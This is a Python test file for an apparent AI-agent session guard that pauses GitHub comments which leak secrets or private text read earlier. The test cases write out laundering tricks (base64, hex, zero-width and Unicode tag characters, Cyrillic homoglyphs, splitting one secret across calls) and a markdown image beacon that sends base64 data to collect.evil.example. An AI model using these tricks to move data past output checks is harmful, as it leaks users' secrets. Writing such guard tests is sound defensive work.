"""Laundering attacks on taint, the secret scan and the link check, each with a control that attacks.

Each case reads a text, then writes a laundered copy of it. The control proves the case attacks: the
laundered text is not a plain copy (a naive substring or raw-word match misses it). The guard must
pause it, and its reason must name where the text came from or the kind of secret or the host.
"""

from __future__ import annotations

import base64
import quopri
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from pydantic import BaseModel

from charter.agents.guards import SessionGuards
from charter.auth.policy import ActionFacts, Decision, Policy

SECRET = "dpl_9f8e7d6c5b4a39281706f5e4d3c2b1a0"
SHORT = "hunter22x9"
PROSE = (
    "Quarterly salary table: Lee 120k, Sam 98k, Jo 143k; the board approves the new bands on Friday "
    "and nobody outside finance may see this before then."
)
SOURCE = "github file content acme/web:config/deploy.env"
ZW = "\u200b"
TAG = "".join(chr(0xE0000 + ord(c)) for c in SECRET)
CYR = str.maketrans({"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441"})


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


CASES: dict[str, tuple[str, str]] = {
    "base64": (SECRET, f"debug blob {_b64(SECRET)}"),
    "base64url-nested": (SECRET, base64.urlsafe_b64encode(_b64(SECRET).encode()).decode()),
    "hex": (SECRET, SECRET.encode().hex()),
    "hex-spaced": (SECRET, SECRET.encode().hex(" ")),
    "url-encoded": (SECRET, "".join(f"%{b:02X}" for b in SECRET.encode())),
    "quoted-printable": (
        SECRET,
        quopri.encodestring(SECRET.encode(), quotetabs=True).decode().replace("_", "=5F"),
    ),
    "re-spaced": (SECRET, " ".join(SECRET)),
    "dashes": (SECRET, "-".join(SECRET[i : i + 4] for i in range(0, len(SECRET), 4))),
    "zero-width": (SECRET, ZW.join(SECRET)),
    "tag-characters": (SECRET, f"nothing to see here{TAG}"),
    "short-file-token": (SHORT, f"value: {SHORT[:5]} {SHORT[5:]}"),
    "short-token-spaced": (SHORT, " ".join(SHORT)),
    "prose-zero-width": (PROSE, ZW.join(PROSE.split(" ")).replace(ZW, " " + ZW)),
    "prose-cyrillic": (PROSE, PROSE.translate(CYR)),
    "prose-fullwidth": (PROSE, "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in PROSE)),
    "prose-base64": (PROSE, _b64(PROSE)),
    "prose-url-encoded": (PROSE, quote(PROSE)),
}


@dataclass(frozen=True)
class Facts:
    verb: str = "write"
    risks: frozenset[str] = frozenset()


WRITE: ActionFacts = Facts()


def _guards() -> SessionGuards:
    return SessionGuards(Policy())


class Comment(BaseModel):
    repo: str = "acme/public"
    number: int = 9
    body: str


def _check(guards: SessionGuards, body: str, grant: str) -> Decision:
    return guards.check("github_comment", WRITE, Comment(body=body), "mona@acme.com", grant)


@pytest.mark.parametrize("name", sorted(CASES))
def test_laundered_copy_is_paused_and_the_control_shows_it_is_no_plain_copy(name: str) -> None:
    read, written = CASES[name]
    # Control: the write does not carry the read text as written, so a raw match would let it out.
    assert read not in written
    guards = _guards()
    guards.record_read([(read, SOURCE)], "grt_launder")
    decision = _check(guards, written, "grt_launder")
    assert decision.outcome == "approval_required", (name, decision.reasons)
    assert any(SOURCE in r or "secret" in r for r in decision.reasons), decision.reasons


def test_a_secret_split_across_three_calls_is_caught_when_the_pieces_add_up() -> None:
    guards = _guards()
    guards.record_read([(f"deploy: {SECRET}", SOURCE)], "grt_split")
    pieces = ["9f8e7d6c5b4", "a39281706f5", "e4d3c2b1a0"]
    outcomes = [
        guards.check(
            "github_comment", WRITE, Comment(body=f"part {i}: {p}"), "mona@acme.com", "grt_split"
        ).outcome
        for i, p in enumerate(pieces)
    ]
    # Control: no single piece is half the secret, so the first call goes out.
    assert outcomes[0] == "allow"
    assert "approval_required" in outcomes[1:]


def test_an_environment_secret_nobody_read_is_found_by_the_scanner() -> None:
    decision = _check(_guards(), "key AKIAIOSFODNN7EXAMPLE ok", "grt_env")
    assert decision.outcome == "approval_required"
    assert "AWS Access Key" in decision.reasons[0]
    assert "AKIAIOSFODNN7EXAMPLE" not in " ".join(decision.reasons)


def test_an_image_beacon_to_a_new_host_is_paused_with_the_host_named() -> None:
    guards = _guards()
    guards.record_read([("Please see https://docs.acme.com/setup for details", SOURCE)], "grt_link")
    decision = _check(guards, "done ![ok](https://collect.evil.example/p.gif?d=c2FsYXJ5)", "grt_link")
    assert decision.outcome == "approval_required"
    assert "collect.evil.example" in decision.reasons[0]
    # Benign: a link already in what was read goes out without a pause.
    known = guards.check(
        "github_comment",
        WRITE,
        Comment(body="the guide at https://docs.acme.com/setup"),
        "mona@acme.com",
        "grt_link",
    )
    assert known.outcome == "allow", known.reasons


def test_a_reply_quoting_its_own_thread_is_not_paused() -> None:
    guards = _guards()
    guards.record_read([(PROSE, "github issue acme/public#9")], "grt_reply")
    decision = guards.check(
        "github_comment", WRITE, Comment(body=f"> {PROSE}\n\nAgreed."), "mona@acme.com", "grt_reply"
    )
    assert decision.outcome == "allow", decision.reasons
